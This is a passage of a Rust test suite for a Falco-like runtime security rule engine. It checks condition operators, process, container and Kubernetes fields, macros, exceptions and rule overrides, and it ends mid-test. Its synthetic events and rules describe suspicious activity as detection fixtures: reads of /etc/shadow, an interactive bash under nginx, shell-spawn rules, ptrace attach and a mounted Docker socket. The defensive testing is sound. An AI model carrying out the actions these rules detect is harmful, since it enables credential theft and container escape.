use crate::*;
use model::{Container, Event, EventKind, OpenFlags, ProcessCtx, Runtime, SockAddr};
use model::{ProcInfo, ProcSource};
use std::collections::HashMap;
use std::sync::Arc;

pub(crate) fn base(syscall: &'static str, kind: EventKind) -> Event {
    Event {
        ts_ns: 1_700_000_000_123_456_789,
        process: ProcessCtx {
            pid: 100,
            tid: 100,
            ppid: 50,
            vpid: 7,
            uid: 1000,
            gid: 1000,
            euid: 0,
            egid: 0,
            auid: u32::MAX,
            comm: "bash".into(),
            exe: "/bin/bash".into(),
            cmdline: "bash -i".into(),
            ..Default::default()
        },
        container: Some(Arc::new(Container {
            id: "0123456789abcdef0123".into(),
            runtime: Some(Runtime::Docker),
            name: "/web".into(),
            image: "registry.local:5000/team/nginx:1.25".into(),
            image_id: "sha256:abc".into(),
            labels: [
                ("app".to_string(), "web".to_string()),
                ("io.kubernetes.pod.name".to_string(), "web-0".to_string()),
            ]
            .into_iter()
            .collect(),
            privileged: false,
            ..Default::default()
        })),
        ret: Some(0),
        syscall: Some(syscall.into()),
        kind,
    }
}

pub(crate) fn exec(comm: &str, argv: &[&str]) -> Event {
    let mut e = base(
        "execve",
        EventKind::Exec {
            filename: format!("/bin/{comm}"),
            exe: format!("/usr/bin/{comm}"),
            argv: argv.iter().map(|s| s.to_string()).collect(),
            argv_truncated: false,
            cwd: "/srv".into(),
            tty: Some("pts0".into()),
            cap_effective: 1 << 21,
            cap_permitted: 1 << 21,
            exe_from_memfd: false,
            exe_upper_layer: Some(true),
            details: None,
        },
    );
    e.process.comm = comm.into();
    e
}

pub(crate) fn open(path: &str, raw: u32) -> Event {
    let mut e = base(
        "openat",
        EventKind::Open { path: path.into(), flags: OpenFlags::from_raw(raw), mode: 0o644, raw_path: None },
    );
    e.ret = Some(3);
    e
}

pub(crate) fn connect(ip: &str, port: u16) -> Event {
    base(
        "connect",
        EventKind::Connect {
            fd: 4,
            local: Some(SockAddr::Inet { ip: "172.17.0.2".parse().unwrap(), port: 40000 }),
            remote: Some(SockAddr::Inet { ip: ip.parse().unwrap(), port }),
        },
    )
}

fn table() -> HashMap<u32, ProcInfo> {
    let mut t = HashMap::new();
    let p = |pid: u32, ppid: u32, comm: &str, argv: &[&str]| ProcInfo {
        pid,
        ppid,
        comm: comm.into(),
        exe: format!("/usr/bin/{comm}").into(),
        argv: argv.iter().map(|s| s.to_string()).collect::<Vec<_>>().into(),
        cmdline: argv.join(" ").into(),
        cwd: "/root".into(),
        start_time_ns: 0,
        exited_at_ns: None,
        source: ProcSource::Event,
        ..Default::default()
    };
    for info in [
        p(1, 0, "containerd-shim", &["containerd-shim"]),
        p(20, 1, "sshd", &["/usr/sbin/sshd", "-D"]),
        p(50, 20, "nginx", &["nginx", "-g", "daemon off;"]),
        p(100, 50, "bash", &["bash", "-i"]),
    ] {
        t.insert(info.pid, info);
    }
    t
}

fn rule(cond: &str) -> String {
    format!("- rule: r\n  desc: d\n  condition: {}\n  output: o\n  priority: WARNING\n", yaml_quote(cond))
}

fn yaml_quote(s: &str) -> String {
    format!("\"{}\"", s.replace('\\', "\\\\").replace('"', "\\\""))
}

fn build(text: &str) -> Ruleset {
    let mut b = RulesetBuilder::new();
    b.add_file("rules.yaml", text);
    match b.build() {
        Ok(r) => r,
        Err(e) => panic!("rules refused:\n{e}"),
    }
}

fn errors(text: &str) -> Vec<String> {
    let mut b = RulesetBuilder::new();
    b.add_file("rules.yaml", text);
    match b.build() {
        Ok(_) => panic!("rules accepted"),
        Err(e) => e.errors.iter().map(|d| d.to_string()).collect(),
    }
}

/// Whether `cond` holds on `ev` (with the process table).
fn holds(cond: &str, ev: &Event) -> bool {
    let rs = build(&rule(cond));
    let t = table();
    let ctx = EvalCtx { procs: Some(&t), hostname: Some("node1"), event_num: 0 };
    let r = rs.get("r").unwrap();
    let general = r.matches(ev, &ctx);
    // The type index evaluates a specialized, reordered condition: same answer.
    let indexed = rs.evaluate(ev, &ctx).count() == 1;
    assert_eq!(general, indexed, "general and indexed evaluation differ for {cond:?}");
    general
}

fn cond_error(cond: &str) -> String {
    let e = errors(&rule(cond));
    assert_eq!(e.len(), 1, "{e:?}");
    e[0].clone()
}

#[test]
fn string_operators() {
    let e = open("/etc/shadow", 0);
    assert!(holds("fd.name = /etc/shadow", &e));
    assert!(holds("fd.name == /etc/shadow", &e));
    assert!(!holds("fd.name != /etc/shadow", &e));
    assert!(holds("fd.name != /etc/passwd", &e));
    assert!(holds("fd.name contains shad", &e));
    assert!(holds("fd.name icontains SHAD", &e));
    assert!(holds("fd.name startswith /etc/", &e));
    assert!(holds("fd.name endswith dow", &e));
    assert!(holds("fd.name glob '/etc/*ow'", &e));
    assert!(holds("fd.name iglob '/ETC/*'", &e));
    assert!(!holds("fd.name glob '/tmp/*'", &e));
    assert!(holds("fd.name pmatch (/etc, /usr/bin)", &e));
    assert!(!holds("fd.name pmatch (/et, /usr/bin)", &e));
    assert!(holds("fd.name in (/etc/passwd, /etc/shadow)", &e));
    assert!(!holds("fd.name in (/etc/passwd)", &e));
    assert!(holds("fd.name intersects (/etc/shadow, x)", &e));
    assert!(holds("fd.name exists", &e));
    assert!(holds("fd.name regex '/etc/s.*'", &e));
    assert!(!holds("fd.name regex 'etc'", &e), "regex is a full match");
    assert!(holds("fd.name > /etc/a", &e));
    assert!(holds("fd.name < /etc/z", &e));
    assert!(holds("fd.name <= /etc/shadow and fd.name >= /etc/shadow", &e));
    assert!(holds("fd.name bcontains 2f736861", &e));
    assert!(holds("fd.name bstartswith 2f657463", &e));
    assert!(!holds("fd.name bstartswith 2f746d70", &e));
    assert!(holds("fd.filename = shadow and fd.directory = /etc", &e));
}

fn netdeny(op: &str, addr: SockAddr) -> Event {
    let mut e = base(
        "netdeny",
        EventKind::NetDeny {
            op: op.into(),
            proto: "tcp".into(),
            addr: Some(addr),
            entry: "egress.deny[0]".into(),
            entry_detail: Some("10.0.0.0/8 ports 22".into()),
            count: 1,
        },
    );
    e.ret = Some(-1);
    e
}

#[test]
fn netdeny_fields() {
    let e = netdeny("connect", SockAddr::Inet { ip: "10.1.2.3".parse().unwrap(), port: 22 });
    assert!(holds("evt.type = netdeny and evt.arg.op = connect", &e));
    assert!(holds("fd.sip = 10.1.2.3 and fd.sport = 22 and fd.rport = 22", &e));
    assert!(holds("fd.snet = 10.0.0.0/8 and fd.l4proto = tcp", &e));
    assert!(holds("evt.arg.entry = 'egress.deny[0] (10.0.0.0/8 ports 22)'", &e));
    assert!(holds("evt.arg.addr = 10.1.2.3:22 and evt.rawarg.count = 1", &e));
    assert!(holds("evt.res = EPERM", &e));
    assert!(!holds("fd.lport exists", &e));
    let b = netdeny("bind", SockAddr::Inet { ip: "0.0.0.0".parse().unwrap(), port: 2222 });
    assert!(holds("fd.lport = 2222 and fd.sport = 2222 and not fd.rport exists", &b));
    let i = netdeny("ingress", SockAddr::Inet6 { ip: "fd00::5".parse().unwrap(), port: 5555 });
    assert!(holds("fd.rip = fd00::5 and fd.cport = 5555 and fd.typechar = 6", &i));
}

#[test]
fn flow_fields() {
    let e = base(
        "flow",
        EventKind::Flow(model::FlowRecord {
            phase: model::FlowPhase::End,
            proto: "tcp".into(),
            local: SockAddr::Inet { ip: "172.18.0.2".parse().unwrap(), port: 41000 },
            remote: SockAddr::Inet { ip: "172.18.0.3".parse().unwrap(), port: 5201 },
            bytes_in: 2_000,
            bytes_out: 3_000_000,
            payload_in: 1_000,
            payload_out: 2_900_000,
            packets_in: 40,
            packets_out: 60,
            first_ns: 1,
            duration_ns: 2_000_000_000,
            tcp_state: Some("close".into()),
            retransmits: 3,
            end_reason: Some("closed".into()),
        }),
    );
    assert!(holds("evt.type = flow and flow.phase = end and flow.proto = tcp", &e));
    assert!(holds("flow.bytes_out > 1000000 and flow.bytes_in = 2000 and flow.bytes = 3002000", &e));
    assert!(holds("flow.payload_out = 2900000 and flow.payload_in = 1000", &e));
    assert!(holds("flow.packets_in = 40 and flow.packets_out = 60 and flow.packets = 100", &e));
    assert!(holds("flow.duration >= 2000000000 and flow.retransmits = 3", &e));
    assert!(holds("flow.tcp_state = close and flow.end_reason = closed", &e));
    // the lower port is the server's: the container is the client here
    assert!(holds("fd.sip = 172.18.0.3 and fd.sport = 5201 and fd.cport = 41000", &e));
    assert!(holds("fd.lip = 172.18.0.2 and fd.rport = 5201 and fd.l4proto = tcp", &e));
    assert!(holds("fd.name = '172.18.0.2:41000->172.18.0.3:5201'", &e));
    assert!(holds("evt.arg.phase = end and evt.rawarg.bytes_out = 3000000 and evt.arg.reason = closed", &e));
    // flow fields have no value on other events
    assert!(!holds("flow.bytes_in exists", &exec("sh", &["sh"])));
}

#[test]
fn missing_values_make_comparisons_false() {
    let e = exec("sh", &["sh", "-c", "id"]);
    assert!(!holds("fd.name = x", &e));
    assert!(!holds("fd.name != x", &e));
    assert!(!holds("fd.name exists", &e));
    assert!(holds("not fd.name exists", &e));
    assert!(!holds("fd.name in (x)", &e));
    assert!(!holds("fd.sport != 1", &e));
}

#[test]
fn numeric_operators() {
    let e = connect("10.1.2.3", 443);
    assert!(holds("fd.sport = 443", &e));
    assert!(holds("fd.sport != 80", &e));
    assert!(holds("fd.sport > 400 and fd.sport < 500", &e));
    assert!(holds("fd.sport >= 443 and fd.sport <= 443", &e));
    assert!(holds("fd.sport in (80, 443)", &e));
    assert!(holds("fd.sport intersects (443)", &e));
    assert!(!holds("fd.sport in (80, 8080)", &e));
    assert!(holds("fd.cport = 40000", &e));
    assert!(holds("evt.rawres = 0 and evt.rawres >= -1", &e));
    assert!(holds("proc.pid = 100 and proc.vpid = 7 and proc.ppid = 50", &e));
    assert!(holds("user.uid = 0 and user.ruid = 1000 and user.loginuid = -1", &e));
    assert!(holds("fd.num = 4", &e));
    assert!(holds("fd.sport = 0x1bb", &e));
}

#[test]
fn bool_and_ip_operators() {
    let e = connect("10.1.2.3", 443);
    assert!(holds("evt.failed = false", &e));
    assert!(holds("evt.failed != true", &e));
    assert!(holds("container.privileged = false", &e));
    assert!(holds("fd.sip = 10.1.2.3", &e));
    assert!(holds("fd.sip in (10.0.0.0/8, 192.168.0.1)", &e));
    assert!(holds("fd.snet = 10.0.0.0/8", &e));
    assert!(holds("fd.net in (10.0.0.0/8)", &e));
    assert!(holds("fd.net = 172.17.0.0/16", &e), "fd.net matches either end");
    assert!(!holds("fd.snet in (192.168.0.0/16)", &e));
    assert!(holds("fd.cip = 172.17.0.2 and fd.lip = 172.17.0.2 and fd.rip = 10.1.2.3", &e));
    assert!(holds("fd.dip = 10.1.2.3 and fd.dport = 443", &e));
    assert!(holds("fd.ip = 10.1.2.3 and fd.port = 40000", &e));
    assert!(holds("fd.typechar = 4 and fd.type = ipv4 and fd.sockfamily = ip", &e));
    assert!(holds("fd.name = 172.17.0.2:40000->10.1.2.3:443", &e));
    assert!(!holds("fd.l4proto exists", &e), "unknown for connect");
    let mut f = e.clone();
    f.ret = Some(-111);
    assert!(holds("evt.failed = true and evt.res = ECONNREFUSED and evt.rawres = -111", &f));
    assert!(holds("evt.res = SUCCESS", &e));
}

#[test]
fn type_errors() {
    assert!(cond_error("proc.pid contains 3")
        .contains("operator 'contains' cannot be used with field \"proc.pid\" of type u64"));
    assert!(cond_error("proc.pid = abc").contains("\"abc\" is not a number"));
    assert!(cond_error("evt.failed = maybe").contains("is not a boolean"));
    assert!(cond_error("fd.sip = 10.0.0.300").contains("is not an IP address"));
    assert!(cond_error("fd.name regex '('").contains("bad regular expression"));
    assert!(cond_error("fd.name glob '[ab'").contains("unclosed"));
    assert!(cond_error("proc.nam = bash").contains("unknown field \"proc.nam\""));
    assert!(cond_error("evt.arg.nope = 1").contains("unknown event argument"));
    assert!(cond_error("proc.aname[x] = a").contains("ancestor index"));
    assert!(cond_error("proc.name[1] = a").contains("takes no argument"));
    assert!(cond_error("container.label = a").contains("needs an argument"));
    assert!(cond_error("no_such_macro").contains("undefined macro \"no_such_macro\""));
    assert!(cond_error("proc.name in no_such_list").contains("undefined list \"no_such_list\""));
}

#[test]
fn process_fields() {
    let e = exec("sh", &["/bin/sh", "-c", "id"]);
    assert!(holds("proc.name = sh", &e));
    assert!(holds("proc.exe = /bin/sh", &e));
    assert!(holds("proc.exepath = /usr/bin/sh", &e));
    assert!(holds("proc.args = '-c id'", &e));
    // No arguments: an empty string, as in Falco (its pkexec rule tests `proc.args = ''`).
    assert!(holds("proc.args = ''", &exec("pkexec", &["/usr/bin/pkexec"])));
    assert!(holds("proc.cmdline = 'sh -c id'", &e));
    assert!(holds("proc.cwd = /srv", &e));
    assert!(holds("proc.tty != 0", &e));
    assert!(holds("proc.pname = nginx and proc.pexe = nginx and proc.pexepath = /usr/bin/nginx", &e));
    assert!(holds("proc.pcmdline = 'nginx -g daemon off;'", &e));
    assert!(holds("proc.aname[0] = sh and proc.aname[1] = nginx and proc.aname[2] = sshd", &e));
    assert!(holds("proc.aname = sshd", &e));
    assert!(holds("proc.aname in (sshd, foo)", &e));
    assert!(!holds("proc.aname = bash", &e));
    assert!(!holds("proc.aname[4] exists", &e));
    assert!(holds("proc.apid[2] = 20 and proc.apid = 1", &e));
    assert!(holds("proc.acmdline[2] = 'sshd -D' and proc.aexe[2] = /usr/sbin/sshd", &e));
    assert!(holds("proc.aexepath[1] = /usr/bin/nginx", &e));
    assert!(holds("proc.is_exe_upper_layer = true and proc.is_exe_from_memfd = false", &e));
    assert!(holds("proc.is_container_healthcheck = false", &e));
    assert!(holds("thread.cap_effective contains CAP_SYS_ADMIN", &e));
    assert!(holds("user.name = root and group.gid = 0 and group.name = root", &e));
    assert!(!holds("user.loginname exists", &e));
    // Without a process table, parent fields have no value.
    let rs = build(&rule("proc.pname = nginx"));
    assert!(!rs.get("r").unwrap().matches(&e, &EvalCtx::default()));
    // Non-exec events use the event's process and the table.
    let o = open("/x", 0);
    assert!(holds("proc.name = bash and proc.cmdline = 'bash -i' and proc.exe = bash", &o));
    assert!(holds("proc.exepath = /bin/bash and proc.cwd = /root", &o));
    assert!(!holds("proc.tty exists", &o));
}

#[test]
fn event_fields() {
    let e = open("/etc/passwd", 0o1 | 0o100 | 0o1000);
    assert!(holds("evt.type = openat and evt.dir = < and evt.source = syscall", &e));
    assert!(holds("evt.is_open_write = true and evt.is_open_read = false and evt.is_open_create = true", &e));
    assert!(holds("evt.is_open_exec = false", &e));
    assert!(holds("evt.arg.flags contains O_TRUNC and evt.arg[flags] contains O_WRONLY", &e));
    assert!(holds("evt.arg.name = /etc/passwd and evt.arg.mode = 0644", &e));
    assert!(holds("evt.rawarg.flags = 577 and evt.rawarg.mode = 420", &e));
    assert!(holds("evt.arg[0] = 3", &e), "res first");
    assert!(holds("evt.time = '22:13:20.123456789' and evt.rawtime = 1700000000123456789", &e));
    assert!(holds("evt.datetime startswith 2023-11-14", &e));
    assert!(holds("evt.hostname = node1", &e));
    assert!(holds("fd.typechar = f and fd.num = 3 and fs.path.name = /etc/passwd", &e));
    let chmod = base("fchmodat", EventKind::Chmod { path: "/bin/x".into(), mode: 0o4755 });
    assert!(holds("evt.arg.mode contains S_ISUID and evt.arg.filename = /bin/x", &chmod));
    let un = base("unshare", EventKind::Unshare { flags: 0x10000000 | 0x20000 });
    assert!(holds("evt.arg.flags contains CLONE_NEWUSER", &un));
    let pt = base("ptrace", EventKind::Ptrace { request: 16, target_pid: 9 });
    assert!(holds("evt.arg.request = PTRACE_ATTACH and evt.rawarg.request = 16 and evt.arg.pid = 9", &pt));
    let cap = base(
        "capable",
        EventKind::Capable { cap: 21, cap_name: String::new(), granted: true, syscall_nr: None },
    );
    assert!(holds("evt.arg.cap = CAP_SYS_ADMIN", &cap));
    let m = base("memfd_create", EventKind::MemfdCreate { name: "x".into(), flags: 1 });
    assert!(holds("evt.arg.name = x and fd.name = memfd:x and evt.arg.flags = MFD_CLOEXEC", &m));
    let r = base("renameat2", EventKind::Rename { old_path: "/a".into(), new_path: "/b".into() });
    assert!(holds(
        "evt.arg.oldpath = /a and evt.arg.newpath = /b and fs.path.source = /a and fs.path.target = /b",
        &r
    ));
    assert!(holds("evt.args contains 'oldpath=/a'", &r));
}

#[test]
fn container_fields() {
    let e = open("/x", 0);
    assert!(holds("container.id = 0123456789ab and container.full_id startswith 0123456789abcdef", &e));
    assert!(holds("container.name = web and container.type = docker", &e));
    assert!(holds("container.image = registry.local:5000/team/nginx:1.25", &e));
    assert!(holds("container.image.repository = registry.local:5000/team/nginx", &e));
    assert!(holds("container.image.tag = '1.25' and container.image.id = abc", &e));
    assert!(holds("container.label[app] = web and container.label.app = web", &e));
    assert!(holds("k8s.pod.name = web-0 and not k8s.ns.name exists", &e));
    assert!(!holds("k8s.pod.label.tier exists", &e));
    let mut pod = e.clone();
    let mut pc = (*pod.container.clone().unwrap()).clone();
    pc.pod_name = Some("web-7d9f".into());
    pc.pod_namespace = Some("shop".into());
    pc.pod_uid = Some("6a5e4b2c-1d3f-4e5a-9b8c-7d6e5f4a3b2c".into());
    pc.pod_labels = [("tier".to_string(), "front".to_string()), ("app".into(), "web".into())].into();
    pc.runtime_namespace = Some("k8s.io".into());
    pod.container = Some(Arc::new(pc));
    assert!(holds("k8s.pod.name = web-7d9f and k8s.ns.name = shop and k8s.pod.id = 6a5e4b2c-1d3f-4e5a-9b8c-7d6e5f4a3b2c", &pod));
    assert!(holds("k8s.pod.label[tier] = front and k8s.pod.label.app = web", &pod));
    assert!(holds("k8s.pod.labels = 'app:web, tier:front'", &pod));
    assert!(holds("k8s.container.name = web", &pod));
    assert!(holds("container.runtime_namespace = k8s.io", &pod));
    assert!(!holds("container.runtime_namespace exists", &e));
    let mut h = e.clone();
    h.container = None;
    assert!(holds("container.id = host and container.name = host", &h));
    assert!(!holds("container.image exists", &h));
    assert!(!holds("container.privileged = false", &h));
    let mut c = e.clone();
    let mut ct = (*c.container.clone().unwrap()).clone();
    ct.image = "busybox".into();
    c.container = Some(Arc::new(ct));
    assert!(holds("container.image.tag = latest and container.image.repository = busybox", &c));
}

#[test]
fn container_mount_and_namespace_fields() {
    let mut e = open("/x", 0);
    let mut ct = (*e.container.clone().unwrap()).clone();
    assert!(holds("container.runtime_socket_mounted = false and container.host_pid = false", &e));
    assert!(holds("container.mount[0] = none and not container.mount.source[0] exists", &e));
    ct.privileged = true;
    ct.host_pid = true;
    ct.mounts = vec![
        model::Mount {
            source: "/var/run/docker.sock".into(),
            destination: "/sock".into(),
            read_only: false,
            propagation: "rprivate".into(),
            mode: String::new(),
        },
        model::Mount {
            source: "/etc".into(),
            destination: "/host/etc".into(),
            read_only: true,
            propagation: "rslave".into(),
            mode: "ro,rslave".into(),
        },
    ];
    e.container = Some(Arc::new(ct.clone()));
    assert!(holds(
        "container.privileged = true and container.host_pid = true and container.host_network = false",
        &e
    ));
    assert!(holds("container.runtime_socket_mounted = true", &e));
    assert!(holds("container.mounts = '/var/run/docker.sock:/sock::true:rprivate /etc:/host/etc:ro,rslave:false:rslave'", &e));
    assert!(holds("container.mount[1] = '/etc:/host/etc:ro,rslave:false:rslave'", &e));
    assert!(holds("container.mount[/var/run/*] startswith /var/run/docker.sock:", &e));
    assert!(holds("container.mount.dest[/var/run/docker.sock] = /sock", &e));
    assert!(holds(
        "container.mount.source[/host/*] = /etc and container.mount.source[0] = /var/run/docker.sock",
        &e
    ));
    assert!(holds("container.mount.mode[/etc] = 'ro,rslave' and container.mount.rdwr[/etc] = false", &e));
    assert!(holds("container.mount.propagation[/etc] = rslave and container.mount.rdwr[0] = true", &e));
    assert!(holds("container.mount[/nope] = none and not container.mount.dest[/nope] exists", &e));
    // A parent directory of the socket exposes it too; tmpfs and other paths do not.
    for (src, exposed) in [
        ("/run", true),
        ("/", true),
        ("/var/run", true),
        ("/run/containerd", true),
        ("/srv", false),
        ("", false),
        ("tmpfs", false),
        ("/run/docker.socket", false),
    ] {
        ct.mounts = vec![model::Mount {
            source: src.into(),
            destination: "/x".into(),
            read_only: true,
            propagation: String::new(),
            mode: String::new(),
        }];
        e.container = Some(Arc::new(ct.clone()));
        assert_eq!(holds("container.runtime_socket_mounted = true", &e), exposed, "{src}");
    }
}

#[test]
fn logic_and_precedence() {
    let e = open("/etc/shadow", 0);
    assert!(holds("fd.name = a or fd.name = /etc/shadow and evt.type = openat", &e));
    assert!(!holds("(fd.name = a or fd.name = /etc/shadow) and evt.type = execve", &e));
    assert!(holds("not fd.name = a and not (evt.type = execve)", &e));
    assert!(!holds("not not fd.name = a", &e));
}

const LISTS: &str = r#"
- list: shells
  items: [sh, bash]
- list: more_shells
  items: [shells, zsh, "fish shell"]
- list: empty
  items: []
- macro: spawned
  condition: evt.type in (execve, execveat)
- macro: shell_spawned
  condition: spawned and proc.name in (more_shells)
- rule: shell
  desc: d
  condition: shell_spawned and not proc.name in (empty)
  output: "shell %proc.name"
  priority: notice
"#;

#[test]
fn lists_and_macros() {
    let rs = build(LISTS);
    let ctx = EvalCtx::default();
    assert_eq!(rs.evaluate(&exec("bash", &["bash"]), &ctx).count(), 1);
    assert_eq!(rs.evaluate(&exec("zsh", &["zsh"]), &ctx).count(), 1);
    let mut fish = exec("x", &["x"]);
    fish.process.comm = "fish shell".into();
    assert_eq!(rs.evaluate(&fish, &ctx).count(), 1);
    assert_eq!(rs.evaluate(&exec("python", &["python"]), &ctx).count(), 0);
    assert_eq!(rs.get("shell").unwrap().evt_types, Some(vec!["execve".to_string(), "execveat".to_string()]));
}

#[test]
fn macro_cycle_is_an_error() {
    let e = errors(
        "- macro: a\n  condition: b\n- macro: b\n  condition: a\n- rule: r\n  desc: d\n  condition: a\n  output: o\n  priority: info\n",
    );
    assert!(e.iter().any(|m| m.contains("refers to itself")), "{e:?}");
}

#[test]
fn exceptions() {
    let text = r#"
- list: allowed_writers
  items: [dpkg, rpm]
- rule: write bin
  desc: d
  condition: evt.type = openat and evt.is_open_write = true and fd.name pmatch (/usr/bin, /bin)
  output: o
  priority: error
  exceptions:
    - name: known
      fields: [proc.name, fd.name]
      comps: [=, startswith]
      values:
        - [bash, /usr/bin/ok]
    - name: pkg
      fields: proc.name
      values: [allowed_writers]
    - name: tuple_list
      fields: [proc.name, fd.directory]
      comps: [in, in]
      values:
        - [[python, perl], [/bin]]
    - name: empty
      fields: [proc.name]
"#;
    let rs = build(text);
    let ctx = EvalCtx::default();
    let n = |comm: &str, path: &str| {
        let mut e = open(path, 1);
        e.process.comm = comm.into();
        rs.evaluate(&e, &ctx).count()
    };
    assert_eq!(n("bash", "/usr/bin/evil"), 1);
    assert_eq!(n("bash", "/usr/bin/ok-file"), 0);
    assert_eq!(n("dpkg", "/usr/bin/evil"), 0);
    assert_eq!(n("rpm", "/bin/x"), 0);
    assert_eq!(n("perl", "/bin/x"), 0);
    assert_eq!(n("perl", "/usr/bin/x"), 1);
}

#[test]
fn exception_errors() {
    let text = r#"
- rule: r
  desc: d
  condition: evt.type = openat
  output: o
  priority: error
  exceptions:
    - name: bad
      fields: [proc.name, fd.nam]
      values:
        - [a, b]
    - name: short
      fields: [proc.name, fd.name]
      values:
        - [a]
"#;
    let e = errors(text);
    assert!(
        e.iter().any(|m| m.starts_with("rules.yaml:9:27: ") && m.contains("unknown field \"fd.nam\"")),
        "{e:?}"
    );
    assert!(
        e.iter().any(|m| m.starts_with("rules.yaml:15:11: ") && m.contains("1 items but there are 2 fields")),
        "{e:?}"
    );
}

const BASE: &str = r#"
- list: bins
  items: [ls]
- macro: m
  condition: proc.name = a
- rule: r
  desc: d
  condition: evt.type = execve and m
  output: "first %proc.name"
  priority: warning
  tags: [t1]
  exceptions:
    - name: ex
      fields: [proc.pname]
      values:
        - [p1]
"#;

fn exec_named(comm: &str) -> Event {
    exec(comm, &[comm])
}

#[test]
fn append_and_override() {
    let ctx = EvalCtx::default();
    let load = |extra: &str| {
        let mut b = RulesetBuilder::new();
        b.add_file("base.yaml", BASE);
        b.add_file("local.yaml", extra);
        match b.build() {
            Ok(r) => r,
            Err(e) => panic!("{e}"),
        }
    };
    // Macro append (legacy) and override.
    let rs = load("- macro: m\n  append: true\n  condition: or proc.name = b\n");
    assert_eq!(rs.evaluate(&exec_named("b"), &ctx).count(), 1);
    let rs = load("- macro: m\n  condition: proc.name = c\n  override:\n    condition: replace\n");
    assert_eq!(rs.evaluate(&exec_named("a"), &ctx).count(), 0);
    assert_eq!(rs.evaluate(&exec_named("c"), &ctx).count(), 1);
    // Rule condition append and replace.
    let rs = load("- rule: r\n  condition: and proc.args = x\n  override:\n    condition: append\n");
    assert_eq!(rs.evaluate(&exec_named("a"), &ctx).count(), 0);
    assert_eq!(rs.evaluate(&exec("a", &["a", "x"]), &ctx).count(), 1);
    let rs = load("- rule: r\n  append: true\n  condition: and proc.args = x\n");
    assert_eq!(rs.evaluate(&exec("a", &["a", "x"]), &ctx).count(), 1);
    let rs = load("- rule: r\n  condition: evt.type = openat\n  override:\n    condition: replace\n");
    assert_eq!(rs.evaluate(&open("/x", 0), &ctx).count(), 1);
    assert_eq!(rs.get("r").unwrap().evt_types, Some(vec!["openat".to_string()]));
    // Output replace, priority replace, tags append.
    let rs = load(
        "- rule: r\n  output: \"second %proc.name\"\n  priority: critical\n  tags: [t2]\n  override:\n    output: replace\n    priority: replace\n    tags: append\n",
    );
    let r = rs.get("r").unwrap();
    assert_eq!(r.render_output(&exec_named("a"), &ctx).0, "second a");
    assert_eq!(r.priority, Priority::Critical);
    assert_eq!(r.tags, vec!["t1", "t2"]);
    // Enabled replace and the legacy enabled-only item.
    let rs = load("- rule: r\n  enabled: false\n  override:\n    enabled: replace\n");
    assert!(!rs.get("r").unwrap().enabled);
    assert_eq!(rs.evaluate(&exec_named("a"), &ctx).count(), 0);
    let rs = load("- rule: r\n  enabled: false\n");
    assert_eq!(rs.evaluate(&exec_named("a"), &ctx).count(), 0);
    // Exceptions append: values of an existing exception, and a new one.
    let t = table();
    let tctx = EvalCtx { procs: Some(&t), ..Default::default() };
    let mut e = exec_named("a");
    e.process.ppid = 50; // parent nginx in the table
    let rs = load("");
    assert_eq!(rs.evaluate(&e, &tctx).count(), 1);
    let rs = load("- rule: r\n  exceptions:\n    - name: ex\n      values:\n        - [nginx]\n  override:\n    exceptions: append\n");
    assert_eq!(rs.evaluate(&e, &tctx).count(), 0);
    let rs = load("- rule: r\n  append: true\n  exceptions:\n    - name: ex2\n      fields: proc.name\n      values: [a]\n");
    assert_eq!(rs.evaluate(&e, &tctx).count(), 0);
    // List append and override.
    let rs = load(
        "- list: bins\n  append: true\n  items: [cat]\n- rule: l\n  desc: d\n  condition: evt.type = execve and proc.name in (bins)\n  output: o\n  priority: info\n",
    );
    assert_eq!(rs.evaluate(&exec_named("cat"), &ctx).count(), 1);
    let rs = load(
        "- list: bins\n  items: [cp]\n  override:\n    items: replace\n- rule: l\n  desc: d\n  condition: evt.type = execve and proc.name in (bins)\n  output: o\n  priority: info\n",
    );
    assert_eq!(rs.evaluate(&exec_named("ls"), &ctx).count(), 0);
    assert_eq!(rs.evaluate(&exec_named("cp"), &ctx).count(), 1);
}

#[test]
fn append_override_errors() {
    let mut b = RulesetBuilder::new();
    b.add_file("base.yaml", BASE);
    b.add_file(
        "local.yaml",
        "- rule: nope\n  append: true\n  condition: and x\n- rule: r\n  output: x\n  priority: info\n  override:\n    output: append\n    priority: append\n- macro: zz\n  append: true\n  condition: x\n- list: ll\n  override:\n    items: append\n  items: [a]\n- rule: r\n  desc: x\n  override:\n    condition: append\n",
    );
    let e = b.build().unwrap_err();
    let m: Vec<String> = e.errors.iter().map(|d| d.to_string()).collect();
    assert!(
        m.contains(&"local.yaml:1:3: rule \"nope\": cannot append to an undefined rule".to_string()),
        "{m:?}"
    );
    assert!(
        m.iter().any(|x| x.starts_with("local.yaml:9:15: ") && x.contains("\"priority\" cannot be appended")),
        "{m:?}"
    );
    assert!(m.iter().any(|x| x.starts_with("local.yaml:10:3: ") && x.contains("undefined macro")), "{m:?}");
    assert!(m.iter().any(|x| x.starts_with("local.yaml:13:3: ") && x.contains("undefined list")), "{m:?}");
    assert!(
        m.iter()
            .any(|x| x.starts_with("local.yaml:18:3: ") && x.contains("\"desc\" is not listed in override")),
        "{m:?}"
    );
    assert!(
        m.iter().any(|x| x.starts_with("local.yaml:20:16: ") && x.contains("the item has no \"condition\"")),
        "{m:?}"
    );
}

#[test]
fn error_positions() {
    // Unknown field in a single-line condition: column of the field.
    let text = "- rule: X\n  desc: d\n  condition: evt.type = execve and proc.nam = bash\n  output: o\n  priority: info\n";
    let e = errors(text);
    assert_eq!(
        e,
        vec![
            "rules.yaml:3:36: unknown field \"proc.nam\" in condition of rule \"X\" (at \"proc.nam = bash\")"
                .to_string()
        ]
    );
    // Multi-line folded condition: the line inside the block.
    let text = "- rule: X\n  desc: d\n  condition: >\n    evt.type = execve\n    and proc.pid contains 3\n  output: o\n  priority: info\n";
    let e = errors(text);
    assert_eq!(e.len(), 1);
    assert!(e[0].starts_with("rules.yaml:5:18: operator 'contains' cannot be used"), "{e:?}");
    // Syntax error in a macro, reported once though used twice.
    let text = "- macro: m\n  condition: (proc.name = a\n- rule: a\n  desc: d\n  condition: m\n  output: o\n  priority: info\n- rule: b\n  desc: d\n  condition: m\n  output: o\n  priority: info\n";
    let e = errors(text);
    assert_eq!(e, vec!["rules.yaml:2:28: expected ')' in condition of macro \"m\"".to_string()]);
    // Undefined macro with a quoted condition.
    let text =
        "- rule: X\n  desc: d\n  condition: \"evt.type = open and nope\"\n  output: o\n  priority: info\n";
    assert_eq!(
        errors(text),
        vec!["rules.yaml:3:35: undefined macro \"nope\" in condition of rule \"X\" (at \"nope\")".to_string()]
    );
    // Bad priority, missing keys, unknown output field: all reported at once.
